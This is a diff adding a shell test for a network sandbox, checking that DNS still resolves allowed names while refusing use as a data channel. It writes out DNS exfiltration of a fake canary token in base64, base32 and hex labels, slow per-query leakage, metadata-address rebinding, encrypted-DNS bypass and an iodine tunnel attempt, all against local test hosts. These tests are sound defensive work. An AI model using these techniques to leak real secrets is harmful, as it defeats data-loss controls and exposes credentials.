@@ -1,0 +1,109 @@
+#!/bin/sh
+# 110-dns: DNS keeps working for legitimate names and stops being a data
+# channel. Runs in private network/mount namespaces with a dnsmasq serving
+# allowed.test on 127.0.0.53, /etc/resolv.conf pointing at it.
+. "$(dirname "$0")/lib.sh"
+dns_sandbox
+start_http 127.0.0.1 web
+
+TOKEN=ghp_Dns7Exfil3Canary9Token2Kq8Lm5Nn0Rr1Tt
+J="--allow *.allowed.test --allow 127.0.0.1 --canary $TOKEN"
+reached() { grep -c -- "$1" "$DNS_LOG"; }
+
+# -- legitimate names resolve, with real answers, through every client
+out=$(jail $J -- curl -s "http://www.allowed.test:$web_PORT/dns" 2>/dev/null)
+check "curl by name resolves and connects" [ "$out" = hello ]
+out=$(jail $J -- python3 -c "import socket; print(socket.gethostbyname('www.allowed.test'))" 2>/dev/null)
+check "python3 gethostbyname gets the real answer" [ "$out" = 127.0.0.1 ]
+out=$(jail $J -- node -e "require('dns').lookup('www.allowed.test',{family:4},(e,a)=>console.log(e?e.code:a))" 2>/dev/null)
+check "node dns.lookup (getaddrinfo) gets the real answer" [ "$out" = 127.0.0.1 ]
+out=$(jail $J -- node -e "require('dns').resolve4('www.allowed.test',(e,a)=>console.log(e?e.code:a.join()))" 2>/dev/null)
+check "node dns.resolve4 (c-ares, raw UDP) gets the real answer" [ "$out" = 127.0.0.1 ]
+out=$(jail $J -- node -e "require('dns').resolveTxt('txt.allowed.test',(e,a)=>console.log(e?e.code:a.join()))" 2>/dev/null)
+check "node dns.resolveTxt gets the real answer" [ "$out" = v=hello ]
+if command -v dig >/dev/null; then
+	out=$(jail $J -- dig +short +tries=1 www.allowed.test 2>/dev/null)
+	check "dig (raw UDP via syscall()) gets the real answer" [ "$out" = 127.0.0.1 ]
+	out=$(jail $J -- dig +short +tcp +tries=1 www.allowed.test 2>/dev/null)
+	check "dig over TCP gets the real answer" [ "$out" = 127.0.0.1 ]
+else
+	fail "dig is not installed (bind9-dnsutils)"
+fi
+check "raw queries are judged and evented" event_has '"op":"resolve"' '"host":"www.allowed.test"' 'via raw-dns'
+
+# -- one-query exfiltration of the canary, three encodings, three paths
+B64=$(printf '%s' "$TOKEN" | base64 | tr '+/' '-_' | tr -d '=')
+B32=$(printf '%s' "$TOKEN" | base32 | tr -d '=' | tr 'A-Z' 'a-z')
+HEX=$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n')
+for enc in B64 B32 HEX; do
+	eval "lab=\$$enc"
+	# labels are at most 63 bytes: split into two
+	name="$(printf '%s' "$lab" | cut -c1-40).$(printf '%s' "$lab" | cut -c41-80).allowed.test"
+	out=$(jail $J -- python3 -c "
+import socket,sys
+try: socket.getaddrinfo(sys.argv[1], 443); print('resolved')
+except socket.gaierror as e: print('refused' if e.errno == socket.EAI_FAIL else 'error')" "$name" 2>/dev/null)
+	check "$enc exfiltration via getaddrinfo is refused" [ "$out" = refused ]
+	jail $J -- dig +short +tries=1 +time=2 "$name" >/dev/null 2>&1
+	jail $J -- node -e "require('dns').resolve4(process.argv[1],()=>{})" "$name" >/dev/null 2>&1
+	first=$(printf '%s' "$lab" | cut -c1-20)
+	check "$enc exfiltration never reached the DNS server (3 clients)" [ "$(reached "$first")" -eq 0 ]
+done
+check "refusals name the rule and figure" event_has '"verdict":"deny"' '"rule":"dns-' 'score=|budget'
+check "refused names are redacted in events" sh -c "! grep -q '$(printf '%s' "$B32" | cut -c1-20)' '$T/events.jsonl'"
+
+# -- slow exfiltration: one short label per query, 200 queries
+rm -f "$T/events.jsonl"
+jail $J -- python3 -c "
+import socket, sys
+hexs = sys.argv[1]
+ok = refused = 0
+for i in range(200):
+    chunk = hexs[(i * 4) % len(hexs):(i * 4) % len(hexs) + 4]
+    try:
+        socket.getaddrinfo('%s.s.allowed.test' % chunk, 80); ok += 1
+    except socket.gaierror: refused += 1
+print(ok, refused)" "$HEX" > "$T/slow.out" 2>/dev/null
+read ok refused < "$T/slow.out"
+check "slow one-label-per-query exfiltration trips a budget ($ok allowed, $refused refused)" [ "$refused" -gt 0 ]
+check "the budget trip is evented with the figure" event_has '"verdict":"deny"' '"rule":"dns-(budget|reassembled|domain)'
+seen=$(grep -o 'query\[A\] [0-9a-f]*\.s\.allowed\.test' "$DNS_LOG" | sed 's/query\[A\] //; s/\..*//' | tr -d '\n')
+check "the whole token never reached the server in order" sh -c "! printf '%s' '$seen' | grep -q '$HEX'"
+
+# -- rebinding: allowed names that point at loopback or metadata
+out=$(jail --allow '*.allowed.test' -- python3 -c "
+import socket,errno
+for h in ('www.allowed.test','meta.allowed.test'):
+    s=socket.socket()
+    try: s.connect((h, $web_PORT)); print(h, 'connected')
+    except OSError as e: print(h, errno.errorcode.get(e.errno))" 2>/dev/null)
+check "allowed name resolving to 127.0.0.1 is refused at connect" sh -c "echo '$out' | grep -q 'www.allowed.test EACCES'"
+check "allowed name resolving to 169.254.169.254 is refused at connect" sh -c "echo '$out' | grep -q 'meta.allowed.test EACCES'"
+check "rebinding refusals are named" event_has '"op":"connect"' '"host":"meta.allowed.test"' '"rule":"(rebinding|deny 169.254)'
+
+# -- encrypted DNS is refused by default, with a reason
+out=$(jail --allow '*' --allow 127.0.0.0/8 -- python3 -c "
+import socket,errno
+s=socket.socket()
+try: s.connect(('127.0.0.1',853)); print('ok')
+except OSError as e: print(errno.errorcode.get(e.errno))
+try: socket.getaddrinfo('dns.google',443); print('resolved')
+except socket.gaierror as e: print('refused')" 2>/dev/null)
+check "DNS over TLS (port 853) is refused" [ "$(echo "$out" | head -1)" = EACCES ]
+check "a DNS-over-HTTPS host is refused even under allow *" [ "$(echo "$out" | tail -1)" = refused ]
+check "encrypted DNS refusals explain why" event_has '"rule":"dns-over-tls' 'hide'
+
+# -- iodine cannot open a tunnel through the resolver
+if command -v iodine >/dev/null; then
+	rm -f "$T/events.jsonl"
+	# iodine retries a refused send in a tight loop: a hard timeout inside the jail
+	"$DLPJAIL" --no-default-policy --log "$T/events.jsonl" --allow '*.allowed.test' -- \
+		timeout -s KILL 6 iodine -f -P dlpjailtest -r -I1 127.0.0.53 t.allowed.test \
+		> "$T/iodine.out" 2>&1
+	check "iodine does not get a tunnel" sh -c "! grep -qi 'connection setup complete' '$T/iodine.out'"
+	check "iodine's queries are refused and evented" event_has '"op":"resolve"' '"verdict":"deny"'
+	check "no iodine query reached the server" [ "$(grep -c '\.t\.allowed\.test' "$DNS_LOG")" -eq 0 ]
+else
+	fail "iodine is not installed"
+fi
+finish
